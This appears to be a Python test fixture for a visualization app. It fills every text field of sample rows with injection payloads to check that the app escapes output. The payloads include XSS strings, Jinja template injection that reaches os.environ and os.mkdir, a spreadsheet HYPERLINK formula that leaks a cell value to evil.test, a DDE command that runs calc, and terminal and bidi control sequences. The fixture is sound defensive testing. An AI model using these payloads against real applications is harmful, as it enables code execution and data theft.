"""Texts that run wherever a place forgets what text is, and rows full of them."""

from __future__ import annotations

from types import MappingProxyType
from typing import TYPE_CHECKING

from tests.tiny import layers, tiny_rows
from tests.tiny.entered import entered

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from clusterviz.schema import Field, Layer
    from tests.tiny import Row

    TextOf = Callable[[str, str, int], str]

_RUN = "window.__ran=(window.__ran||0)+1"
_OS = "cycler.__init__.__globals__.os"

PAYLOADS: Mapping[str, str] = MappingProxyType(
    {
        "script": f"<script>{_RUN}</script>",
        "script_end": f"</script><script>{_RUN}</script>",
        "image": f"<img src=x onerror={_RUN}>",
        "vector": f"<svg onload={_RUN}><g/></svg>",
        "attribute": f"\" onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x=\"",
        "frame": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
        "style": "</style><style>*{display:none!important}</style>",
        "address": f"javascript:{_RUN}",
        "markdown_link": f"[x](javascript:{_RUN}) <http://evil.test/>",
        "markdown_image": "![x](http://evil.test/x.png)",
        "markdown_loud": "# **x** ~~y~~ `z` > q\n- a\n1. b | c |",
        "icon": ":material/skull: :smile: :red[x] :blue-background[y]",
        "formula_tex": r"$\href{javascript:alert(1)}{x}$ $$\sum$$",
        "jinja": "{{7*7}}{{ cycler }}",
        "jinja_loop": "{% for i in range(3) %}x{{i}}{% endfor %}{# gone #}",
        "jinja_chain": f"{{{{ {_OS}.environ.CLUSTERVIZ_CANARY }}}}",
        "jinja_write": f"{{{{ {_OS}.mkdir({_OS}.environ.CLUSTERVIZ_CANARY_DIR) }}}}",
        "template_text": f"${{{_RUN}}}`+({_RUN})+`",
        "quotes": f'\');{_RUN};(\' ");{_RUN};(" \\");{_RUN};//',
        "separators": f"a\u2028{_RUN}\u2029b",
        "formula": '=HYPERLINK("http://evil.test/?"&A1,"x")',
        "command": "@SUM(1+1)*cmd|' /C calc'!A0",
        "wide_formula": "\uff1d1+1\t=1+1",
        "terminal": "\x1b]0;owned\x07\x1b[31mred\x1b[2J",
        "bidi": "abc\u202egpj.exe\u2066\u200b",
        "nulls": "a\ufffd\x01\x7fb",
        "long": "W" * 5000 + f"<img src=x onerror={_RUN}>",
        "object": "__proto__",
    }
)
"""By name. In a browser each that runs raises ``window.__ran`` or leaves its
elements; on the server those that run make a folder or show a secret."""


def is_name(layer: Layer, field: Field, declared: Mapping[str, Layer]) -> bool:
    """Return whether rows are told apart, or refer to each other, by this field."""
    referred = {
        one.references for every in declared.values() for one in every.fields.values()
    }
    is_referred = f"{layer.name}.{field.name}" in referred
    return field.name == layer.key or bool(field.references) or is_referred


def spoiled_rows(text_of: TextOf) -> dict[str, list[Row]]:
    """Return the tiny rows with a text of ours in every field of text there is.

    Parameters
    ----------
    text_of
        The text for a layer, a field and the number of a row. Names of rows keep
        what they were behind the text of their number 0, so that they stay names.
    """
    declared = layers()
    return {
        name: [
            _spoiled(declared, declared[name], row, n, text_of)
            for n, row in enumerate(rows)
        ]
        for name, rows in {**tiny_rows(declared), **entered()}.items()
    }


def _spoiled(
    declared: Mapping[str, Layer], layer: Layer, row: Row, n: int, text_of: TextOf
) -> Row:
    spoiled = dict(row)
    for field in layer.fields.values():
        if field.type != "text":
            continue
        old = row.get(field.name)
        if not is_name(layer, field, declared):
            spoiled[field.name] = text_of(layer.name, field.name, n)
        elif old is not None:
            spoiled[field.name] = text_of("", "", 0) + old
    return spoiled
